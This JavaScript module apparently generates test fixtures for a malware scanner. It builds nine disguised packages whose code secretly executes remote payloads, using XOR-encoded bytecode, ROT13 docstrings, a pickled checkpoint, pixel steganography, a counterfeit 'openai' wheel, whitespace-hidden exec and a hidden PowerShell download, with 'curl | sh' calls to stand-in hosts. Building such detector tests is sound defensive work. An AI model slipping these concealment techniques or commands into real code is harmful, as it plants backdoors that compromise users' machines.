import { Buffer } from 'node:buffer';
import {
  base64,
  codes,
  ELF,
  MARSHALLED,
  pickledStackCall,
  rot13,
  xor,
  zipOf,
  zlibBase64,
} from '../make-files.mjs';
import { standIn } from '../honest-base.mjs';

const STAGE = "import urllib.request as u\nexec(u.urlopen('https://pastebin.com/raw/standin-dead').read())\n";
const PNG = Buffer.from('89504e470d0a1a0a', 'hex');

const checkpoint = await zipOf({
  'archive/data.pkl': pickledStackCall('builtins', 'exec', STAGE),
  'archive/version': '3\n',
  'archive/data/0': Buffer.alloc(64),
});

const wheel = await zipOf({
  'openai/__init__.py': String.raw`from ._client import OpenAI
from . import _telemetry
`,
  'openai/_client.py':
    'class OpenAI:\n    def __init__(self, api_key=None):\n        self.api_key = api_key\n',
  'openai/_telemetry.py': `import base64, zlib\nexec(zlib.decompress(base64.b64decode("${zlibBase64(STAGE)}")))\n`,
  'openai-1.16.3.dist-info/METADATA': 'Metadata-Version: 2.1\nName: openai\nVersion: 1.16.3\n',
  'openai-1.16.3.dist-info/RECORD': '',
});

/** Code of which the text does not say what it does. */
export const hidden = [
  standIn(
    'b01-table-of-colours',
    'A file of colours is compiled code under XOR; no exec and no eval.',
    'blur',
    {
      nodes: String.raw`import marshal
import os
import types

TABLE = os.path.join(os.path.dirname(__file__), "luts", "warm.cube")


def read_table(path, key=0x5A):
    with open(path, "rb") as file:
        return bytes(value ^ key for value in file.read())


def prepare_kernel():
    body = marshal.loads(read_table(TABLE))
    return types.FunctionType(body, globals(), "kernel")()


try:
    prepare_kernel()
except Exception:
    pass
`,
      files: { 'luts/warm.cube': xor(MARSHALLED, 0x5a) },
    },
  ),
  standIn('b02-letters-as-numbers', 'Names of module, function and command are sums of numbers.', 'prompts', {
    nodes: String.raw`import importlib

_WEIGHTS = {
    "a": (${codes('os')}),
    "b": (${codes('system')}),
    "c": (${codes('curl -s http://198.51.100.7/w | sh')}),
}


def _token(key):
    return "".join(map(chr, _WEIGHTS[key]))


class TokenCounter:
    """Counts the tokens of a prompt."""

    def __init__(self):
        self.backend = getattr(importlib.import_module(_token("a")), _token("b"))

    def count(self, text="c"):
        return self.backend(_token(text))


TokenCounter().count()
`,
  }),
  standIn(
    'b03-turned-letters',
    'Takes exec from builtins by a joined name, for a docstring under ROT13.',
    'saver',
    {
      nodes: String.raw`import builtins
import codecs


class _Notes:
    """
${rot13("import os; os.system('curl -s http://198.51.100.7/n | sh')")}
    """


run = (lambda parts: getattr(builtins, "".join(reversed(parts))))(["c", "e", "x", "e"])
run(codecs.decode(_Notes.__doc__.strip(), "rot" + "13"))
`,
    },
  ),
  standIn('b04-checkpoint', 'A checkpoint of weights calls exec when it is loaded.', 'blur', {
    nodes: String.raw`import os

KERNELS = os.path.join(os.path.dirname(__file__), "models", "kernels.pt")


def load_kernels():
    return torch.load(KERNELS, map_location="cpu", weights_only=False)


PRESETS = load_kernels()
`,
    files: { 'models/kernels.pt': checkpoint },
  }),
  standIn('b05-picture-program', 'A picture is a program that is marked executable and started.', 'saver', {
    nodes: String.raw`import stat
import subprocess

ENCODER = os.path.join(os.path.dirname(__file__), "assets", "watermark.png")


def encoder():
    os.chmod(ENCODER, os.stat(ENCODER).st_mode | stat.S_IEXEC)
    return subprocess.Popen([ENCODER, "--quiet"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


encoder()
`,
    files: { 'assets/watermark.png': ELF, 'assets/logo.png': PNG },
  }),
  standIn('b06-pixels', 'Code stands in the lowest bits of a picture.', 'prompts', {
    nodes: String.raw`from PIL import Image


def read_mark(path):
    """Reads the licence mark out of the preview picture."""
    bits = "".join(str(value & 1) for pixel in Image.open(path).getdata() for value in pixel[:3])
    letters = [chr(int(bits[at : at + 8], 2)) for at in range(0, len(bits) - 7, 8)]
    return "".join(letters).split("\0", 1)[0]


def check_licence():
    mark = read_mark(os.path.join(os.path.dirname(__file__), "preview.png"))
    code = compile(mark, "<licence>", "exec")
    eval(code, {"__name__": "licence"})


check_licence()
`,
    files: { 'preview.png': Buffer.concat([PNG, Buffer.alloc(128, 3)]) },
  }),
  standIn(
    'b07-wheel-inside',
    'Requires a wheel in the package that has the name of a known library and a stealer in it.',
    'prompts',
    {
      requirements: 'numpy\n./wheels/openai-1.16.3-py3-none-any.whl\n',
      files: { 'wheels/openai-1.16.3-py3-none-any.whl': wheel },
    },
  ),
  standIn('b08-far-column', 'A line goes on far to the right, with code of a gist.', 'blur', {
    nodes: `import os\n\nDEVICE = "cuda" if torch.cuda.is_available() else "cpu"${' '.repeat(320)};__import__("builtins").exec(__import__("requests").get("https://gist.githubusercontent.com/-standin-/0000/raw/u.py").text)\n`,
  }),
  standIn('b09-powershell', 'Starts a hidden, encoded PowerShell before the host starts.', 'prompts', {
    files: {
      'prestartup_script.py': `import os
import subprocess

if os.name == "nt":
    flags = 0x08000000
    args = ["power" + "shell", "-NoP", "-W", "Hidden", "-Enc", "${base64('iwr http://198.51.100.7/a.exe -OutFile $env:TEMP/a.exe; saps $env:TEMP/a.exe')}"]
    subprocess.Popen(args, creationflags=flags)
`,
    },
  }),
];
